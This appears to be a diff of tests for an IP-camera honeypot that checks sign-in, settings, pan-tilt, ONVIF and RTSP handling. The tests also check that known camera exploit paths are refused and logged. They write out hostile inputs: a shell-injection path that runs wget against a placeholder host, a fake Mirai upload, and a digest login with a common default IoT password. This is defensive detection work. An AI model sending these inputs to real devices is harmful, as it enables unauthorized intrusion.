@@ -81,7 +81,9 @@ async function say(port: number, text: string, enough = (_got: Buffer): boolean 
 const http = (text: string, enough?: (got: Buffer) => boolean) => say(base + 80, text, enough);
 const basic = `Authorization: Basic ${Buffer.from(`${admin.name}:${admin.password}`).toString('base64')}`;
 const get = async (path: string, ...headers: string[]) =>
-  (await http(`GET ${path} HTTP/1.0\r\nHost: camera\r\n${[...headers, ''].join('\r\n')}\r\n`)).toString('latin1');
+  (await http(`GET ${path} HTTP/1.0\r\nHost: camera\r\n${[...headers, ''].join('\r\n')}\r\n`)).toString(
+    'latin1',
+  );
 const post = async (path: string, body: string, ...headers: string[]) =>
   (
     await http(
@@ -94,13 +96,21 @@ test('a visitor signs in, changes a setting, adds an account, and all of it is t
   assert.match(await get(device.paths.live), / 302 /);
   const wrong = await post(device.paths.signIn, `${device.prefix}user=admin&${device.prefix}pwd=wrong`);
   assert.match(wrong, /password error/);
-  const right = await post(device.paths.signIn, `${device.prefix}user=admin&${device.prefix}pwd=${admin.password}`);
+  const right = await post(
+    device.paths.signIn,
+    `${device.prefix}user=admin&${device.prefix}pwd=${admin.password}`,
+  );
   const cookie = `Cookie: ${/Set-Cookie: ([^;]+)/.exec(right)?.[1]}`;
   assert.match(await get(device.paths.live, cookie), new RegExp(device.paths.video.replace('.', '\\.')));
   await post(device.paths.save, 'p=osd&osdname=Back+door', cookie);
   await post(device.paths.save, 'p=users&name=backup&pwd=secret1&level=admin', cookie);
   await post(device.paths.save, 'p=image&brightness=9999&ircut=sideways', cookie);
-  const writes = eventsOf('yamori.setting.write').map((event) => [event.point, event.previous_value, event.requested_value, event.resulting_value]);
+  const writes = eventsOf('yamori.setting.write').map((event) => [
+    event.point,
+    event.previous_value,
+    event.requested_value,
+    event.resulting_value,
+  ]);
   assert.deepEqual(writes, [
     ['osdname', device.spotName, 'Back door', 'Back door'],
     ['account', '', 'backup:secret1:admin', 'backup:secret1:admin'],
@@ -154,14 +164,18 @@ test('all viewers of a stream get the same bytes, drawn once, and nothing is dra
 });
 
 test('pan, tilt and zoom change the picture, and say from where to where', async () => {
-  const snapshot = async () => (await get(device.paths.snapshot, basic)).split('\r\n\r\n').slice(1).join('\r\n\r\n');
+  const snapshot = async () =>
+    (await get(device.paths.snapshot, basic)).split('\r\n\r\n').slice(1).join('\r\n\r\n');
   const before = await snapshot();
   assert.match(await get(`${device.paths.move}?act=right`, basic), /ok\r\n$/);
   await new Promise((resolve) => setTimeout(resolve, 400));
   await get(`${device.paths.move}?act=stop`, basic);
   await get(`${device.paths.move}?act=zoomin`, basic);
   const moved = eventsOf('yamori.camera.moved');
-  assert.deepEqual(moved.map(({ requested_value }) => requested_value), ['1.00 0.00 0.00', '0.00 0.00 1.00']);
+  assert.deepEqual(
+    moved.map(({ requested_value }) => requested_value),
+    ['1.00 0.00 0.00', '0.00 0.00 1.00'],
+  );
   assert.notEqual(moved[0].previous_value, moved[1].previous_value);
   assert.notEqual(await snapshot(), before);
   assert.match(await get(`${device.paths.move}?act=constructor`, basic), /error\r\n$/);
@@ -169,8 +183,12 @@ test('pan, tilt and zoom change the picture, and say from where to where', async
 });
 
 test('an upload is kept as an event and is never a firmware', async () => {
-  const body = '--x\r\nContent-Disposition: form-data; name="file"; filename="mirai.arm7"\r\n\r\n\x7fELF\r\n--x--\r\n';
-  assert.match(await post(device.paths.upgrade, body, basic, 'Content-Type: multipart/form-data; boundary=x'), /check error/);
+  const body =
+    '--x\r\nContent-Disposition: form-data; name="file"; filename="mirai.arm7"\r\n\r\n\x7fELF\r\n--x--\r\n';
+  assert.match(
+    await post(device.paths.upgrade, body, basic, 'Content-Type: multipart/form-data; boundary=x'),
+    /check error/,
+  );
   const upload = eventsOf('cowrie.session.file_upload').at(-1);
   assert.deepEqual([upload?.filename, upload?.size], ['mirai.arm7', body.length]);
 });
@@ -184,10 +202,16 @@ test('the stylesheet marks who comes back', async () => {
 });
 
 test('exploits for cameras are named, and none of them works', async () => {
-  for (const target of ['/SDK/webLanguage', '/system.ini?loginuse&loginpas', '/shell?cd+/tmp;wget+http://192.0.2.1/x', '/onvif-http/snapshot?auth=YWRtaW46MTEK'])
+  for (const target of [
+    '/SDK/webLanguage',
+    '/system.ini?loginuse&loginpas',
+    '/shell?cd+/tmp;wget+http://192.0.2.1/x',
+    '/onvif-http/snapshot?auth=YWRtaW46MTEK',
+  ])
     assert.match(await get(target), /^HTTP\/1\.[01] 404 /);
   const names = eventsOf('yamori.exploit').map(({ name }) => name);
-  for (const name of ['hikvision-web-language', 'goahead-system-ini', 'jaws-shell', 'hikvision-auth-bypass']) assert.ok(names.includes(name), name);
+  for (const name of ['hikvision-web-language', 'goahead-system-ini', 'jaws-shell', 'hikvision-auth-bypass'])
+    assert.ok(names.includes(name), name);
   assert.equal(eventsOf('yamori.indicator').at(-1)?.url, 'http://192.0.2.1/x');
 });
 
@@ -197,7 +221,10 @@ const soap = (body: string, header = '') =>
 function token(password: string): string {
   const nonce = Buffer.from('0123456789abcdef');
   const created = new Date().toISOString();
-  const digest = createHash('sha1').update(nonce).update(created + password).digest('base64');
+  const digest = createHash('sha1')
+    .update(nonce)
+    .update(created + password)
+    .digest('base64');
   return `<Security><UsernameToken><Username>admin</Username><Password Type="...#PasswordDigest">${digest}</Password><Nonce>${nonce.toString('base64')}</Nonce><Created>${created}</Created></UsernameToken></Security>`;
 }
 
@@ -206,14 +233,29 @@ test('ONVIF tells strangers the time, and who proves himself where the streams a
   assert.match(await call('<GetSystemDateAndTime/>'), /UTCDateTime/);
   assert.match(await call('<GetDeviceInformation/>'), /NotAuthorized/);
   assert.match(await call('<GetDeviceInformation/>', token('wrong')), /NotAuthorized/);
-  assert.match(await call('<GetDeviceInformation/>', token(admin.password)), new RegExp(`<tds:SerialNumber>${device.serial}<`));
-  const uri = await call('<GetStreamUri><ProfileToken>SubProfile</ProfileToken></GetStreamUri>', token(admin.password));
+  assert.match(
+    await call('<GetDeviceInformation/>', token(admin.password)),
+    new RegExp(`<tds:SerialNumber>${device.serial}<`),
+  );
+  const uri = await call(
+    '<GetStreamUri><ProfileToken>SubProfile</ProfileToken></GetStreamUri>',
+    token(admin.password),
+  );
   assert.match(uri, new RegExp(`rtsp://camera:${base + 554}${device.paths.rtsp[1]}<`));
-  assert.match(await call('<ContinuousMove><Velocity><PanTilt x="-1" y="0"/></Velocity></ContinuousMove>', token(admin.password)), /ContinuousMoveResponse/);
+  assert.match(
+    await call(
+      '<ContinuousMove><Velocity><PanTilt x="-1" y="0"/></Velocity></ContinuousMove>',
+      token(admin.password),
+    ),
+    /ContinuousMoveResponse/,
+  );
   await call('<Stop/>', token(admin.password));
   assert.equal(eventsOf('yamori.camera.moved').at(-1)?.face, 'onvif');
   assert.match(await call('<GotoHomePosition/>', token(admin.password)), /GotoHomePositionResponse/);
-  assert.match(await post('/onvif/device_service', '<!DOCTYPE x [<!ENTITY a "b">]><a/>'), /^HTTP\/1\.[01] 400 /);
+  assert.match(
+    await post('/onvif/device_service', '<!DOCTYPE x [<!ENTITY a "b">]><a/>'),
+    /^HTTP\/1\.[01] 400 /,
+  );
   assert.match(await call('<constructor/>', token(admin.password)), /ActionNotSupported/);
 });
 
@@ -224,7 +266,26 @@ test('RTSP asks for a digest, refuses UDP, and plays over the connection', async
   const asked = (await rtsp(`DESCRIBE ${url} RTSP/1.0\r\nCSeq: 7\r\n\r\n`, whole)).toString();
   assert.match(asked, /^RTSP\/1\.0 401 Unauthorized\r\nCSeq: 7\r\n/);
   assert.match(asked, /WWW-Authenticate: Digest realm="[^"]+", .*nonce="/);
-  const udp = await rtsp(`SETUP ${url} RTSP/1.0\r\nCSeq: 1\r\n${basic}\r\nTransport: RTP/AVP;unicast;client_port=9-10\r\n\r\n`, whole);
+  const nonce = /nonce="([^"]+)"/.exec(asked)?.[1];
+  const realm = /realm="([^"]+)"/.exec(asked)?.[1];
+  const md5 = (text: string) => createHash('md5').update(text).digest('hex');
+  const middle = asked.includes('qop') ? `${nonce}:1:c:auth` : nonce;
+  const response = md5(`${md5(`root:${realm}:xc3511`)}:${middle}:${md5(`DESCRIBE:${url}`)}`);
+  const guess = `Authorization: Digest username="root", realm="${realm}", nonce="${nonce}", uri="${url}", response="${response}"${asked.includes('qop') ? ', qop=auth, nc=1, cnonce="c"' : ''}`;
+  assert.match(
+    (await rtsp(`DESCRIBE ${url} RTSP/1.0\r\nCSeq: 8\r\n${guess}\r\n\r\n`, whole)).toString(),
+    / 401 /,
+  );
+  const guessed = eventsOf('cowrie.login.failed').at(-1);
+  assert.deepEqual(
+    [guessed?.username, guessed?.password],
+    ['root', 'xc3511'],
+    'a digest of a common password is told',
+  );
+  const udp = await rtsp(
+    `SETUP ${url} RTSP/1.0\r\nCSeq: 1\r\n${basic}\r\nTransport: RTP/AVP;unicast;client_port=9-10\r\n\r\n`,
+    whole,
+  );
   assert.match(udp.toString(), /^RTSP\/1\.0 461 /);
   const play = [
     `DESCRIBE ${url} RTSP/1.0\r\nCSeq: 1\r\n${basic}\r\n\r\n`,
@@ -242,6 +303,9 @@ test('RTSP asks for a digest, refuses UDP, and plays over the connection', async
   }
   assert.ok(sequences.length > 20);
   assert.ok(sequences.every((one, n) => n === 0 || one === ((sequences[n - 1] + 1) & 0xffff)));
-  assert.match((await rtsp(`DESCRIBE ${url}/nothing RTSP/1.0\r\nCSeq: 1\r\n${basic}\r\n\r\n`, whole)).toString(), /404 Stream Not Found/);
+  assert.match(
+    (await rtsp(`DESCRIBE ${url}/nothing RTSP/1.0\r\nCSeq: 1\r\n${basic}\r\n\r\n`, whole)).toString(),
+    /404 Stream Not Found/,
+  );
   assert.match((await rtsp('GET / HTTP/1.0\r\n\r\n')).toString(), /^RTSP\/1\.0 400 /);
 });
